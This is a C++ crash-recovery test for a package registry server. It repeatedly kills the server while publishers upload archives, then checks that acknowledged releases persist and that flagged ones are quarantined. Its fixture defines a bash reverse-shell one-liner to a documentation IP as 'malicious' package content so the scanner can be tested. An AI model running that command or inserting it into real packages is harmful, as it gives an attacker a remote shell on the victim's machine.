// SPDX-License-Identifier: Apache-2.0
// tankd is killed while it publishes under load, again and again: what it acknowledged is there,
// nothing is half, and the call that died is made once more. TANK_KILLS sets how often.
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <mutex>
#include <random>
#include <thread>

#include <doctest/doctest.h>

#include <tank/base/digest.hpp>

#include "core/json/json.hpp"
#include "http/running_server.hpp"
#include "http/tankd_process.hpp"

namespace tank::testing {
namespace {

constexpr int publishers = 3;
constexpr int rounds_between_checks = 25;

int wanted_kills() {
  const char* const said = std::getenv("TANK_KILLS");
  return said == nullptr ? TANK_TEST_KILLS : std::atoi(said);
}

const std::string reverse_shell = "```sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```";

std::vector<std::string> without_rates(const Premises& premises) {
  std::vector<std::string> out = arguments(premises);
  for (const char* rate : {"--rate-publish", "--rate-login"}) out.insert(out.end(), {rate, "off"});
  return out;
}

std::string log_in(Process& process, std::uint16_t port) {
  const std::size_t at = process.printed.find("once_");
  REQUIRE(at != std::string::npos);
  const std::string code = process.printed.substr(at, process.printed.find('\n', at) - at);
  const Answer login = ask(port, {.method = "POST",
                                  .target = "/api/v1/login/code",
                                  .type = "application/json",
                                  .body = "{\"code\":\"" + code + "\"}"});
  REQUIRE(login.status == 200);
  return text_at(login.json(), "token");
}

void check_store(const Premises& premises) {
  std::vector<std::string> words = arguments(premises);
  words.emplace_back("verify-store");
  Process process(words);
  process.wait_for("\n}");
  const int code = process.end();
  INFO(process.printed);
  REQUIRE(code == 0);
}

/// What one publisher does next, and what the server has said about it.
struct Deed {
  std::string name;
  std::string version;
  bool is_malicious = false;
  bool is_staged = false;
  std::string upload;  ///< once it is reserved
};

/// One of several who publish until their server dies. Lives through many servers: what was
/// under way is taken up with the next.
class Publisher {
 public:
  Publisher(int number, std::string token) : number_(number), token_(std::move(token)) {}

  void work(std::uint16_t port) {
    Client client(port);
    while (carry_on(client)) {
    }
  }

  [[nodiscard]] const std::vector<Deed>& done() const { return done_; }

 private:
  // False when the server is gone.
  bool carry_on(Client& client) {
    if (!now_) now_ = next();
    const std::string archive =
        skill(now_->name, now_->version, now_->is_malicious ? reverse_shell : "text");
    const auto answer = now_->is_staged ? stage(client, archive) : send(client, archive);
    if (!answer) return false;
    // A call that died after its commit is answered as if it were the first.
    CAPTURE(answer->body);
    CHECK(answer->status == 201);
    CHECK(text_at(answer->json(), "state") == (now_->is_malicious ? "quarantined" : "available"));
    done_.push_back(*std::exchange(now_, std::nullopt));
    return true;
  }

  Deed next() {
    const int count = count_++;
    return {.name = "@acme/p" + std::to_string(number_) + "-" + std::to_string(count / 20),
            .version = "1.0." + std::to_string(count % 20),
            .is_malicious = count % 5 == 3,
            .is_staged = count % 2 == 1};
  }

  std::optional<Answer> send(Client& client, const std::string& archive) {
    return client.ask({.method = "POST",
                       .target = "/api/v1/packages/" + now_->name + "/releases",
                       .token = token_,
                       .type = "application/gzip",
                       .body = archive,
                       .fields = "Idempotency-Key: " + now_->name + now_->version + "\r\n"});
  }

  std::optional<Answer> stage(Client& client, const std::string& archive) {
    if (now_->upload.empty() && !reserve(client, archive)) return std::nullopt;
    const std::string path = "/api/v1/uploads/" + now_->upload;
    const auto status = client.ask({.target = path, .token = token_});
    if (!status) return std::nullopt;
    const std::string state = text_at(status->json(), "state");
    if (state == "reserved") {
      const auto sent = client.ask({.method = "PUT",
                                    .target = path,
                                    .token = token_,
                                    .type = "application/octet-stream",
                                    .body = archive});
      if (!sent) return std::nullopt;
      CHECK(sent->status == 200);
    }
    return client.ask({.method = "POST", .target = path + "/publish", .token = token_});
  }

  bool reserve(Client& client, const std::string& archive) {
    const json::Value body = json::Object{{"name", now_->name},
                                          {"version", now_->version},
                                          {"digest", Digest::of(archive).to_string()},
                                          {"size", static_cast<std::int64_t>(archive.size())}};
    const auto answer = client.ask({.method = "POST",
                                    .target = "/api/v1/uploads",
                                    .token = token_,
                                    .type = "application/json",
                                    .body = json::write(body)});
    if (!answer) return false;
    CAPTURE(answer->body);
    REQUIRE(answer->status == 201);
    now_->upload = text_at(answer->json(), "id");
    return true;
  }

  int number_;
  std::string token_;
  int count_ = 0;
  std::optional<Deed> now_;
  std::vector<Deed> done_;
};

void check_done(std::uint16_t port, const std::string& token,
                const std::vector<Publisher>& people) {
  int published = 0;
  int quarantined = 0;
  for (const Publisher& each : people) {
    for (const Deed& deed : each.done()) {
      CAPTURE(deed.name);
      CAPTURE(deed.version);
      const std::string path = "/api/v1/packages/" + deed.name + "/releases/" + deed.version;
      CHECK(ask(port, {.target = path + "/archive"}).status == (deed.is_malicious ? 404 : 200));
      const Answer scan = ask(port, {.target = path + "/scan", .token = token});
      REQUIRE(scan.status == 200);
      const bool failed = text_at(scan.json(), "audit_status") == "failed";
      CHECK(failed == deed.is_malicious);
      ++(deed.is_malicious ? quarantined : published);
    }
  }
  MESSAGE(published, " published and ", quarantined, " quarantined");
  CHECK(published > 0);
}

// Some publishes long, on however slow a machine, so that a kill may hit any part of one.
std::chrono::microseconds window_of(std::uint16_t port, const std::string& token) {
  const auto begun = std::chrono::steady_clock::now();
  REQUIRE(ask(port, {.method = "POST",
                     .target = "/api/v1/packages/@acme/probe/releases",
                     .token = token,
                     .type = "application/gzip",
                     .body = skill("@acme/probe", "1.0.0", "text")})
              .status == 201);
  const auto took = std::chrono::steady_clock::now() - begun;
  return std::max(std::chrono::duration_cast<std::chrono::microseconds>(6 * took),
                  std::chrono::microseconds(150'000));
}

TEST_CASE("kills: killed at any moment under load, nothing is half there and no call is lost") {
  const int kills = wanted_kills();
  for (const Backend& backend : shared_backends()) {
    CAPTURE(backend.name);
    const Premises premises(backend);
    std::mt19937 chance(7);
    std::string token;
    std::vector<Publisher> people;
    std::chrono::microseconds window{};
    for (int round = 0; round < kills; ++round) {
      Process process(without_rates(premises));
      const std::uint16_t port = process.wait_for_port();
      if (token.empty()) {
        token = log_in(process, port);
        REQUIRE(ask(port, {.method = "POST",
                           .target = "/api/v1/orgs",
                           .token = token,
                           .type = "application/json",
                           .body = R"({"slug":"acme","name":"Acme"})"})
                    .status == 201);
        window = window_of(port, token);
        for (int i = 0; i < publishers; ++i) people.emplace_back(i, token);
      }
      std::vector<std::thread> threads;
      for (Publisher& each : people) threads.emplace_back([&each, port] { each.work(port); });
      std::this_thread::sleep_for(window * (chance() % 1'000) / 1'000);
      CHECK(process.end(SIGKILL) == -SIGKILL);
      for (std::thread& thread : threads) thread.join();
      if (round % rounds_between_checks == rounds_between_checks - 1) check_store(premises);
    }
    check_store(premises);
    Process process(without_rates(premises));
    check_done(process.wait_for_port(), token, people);
  }
}

}  // namespace
}  // namespace tank::testing
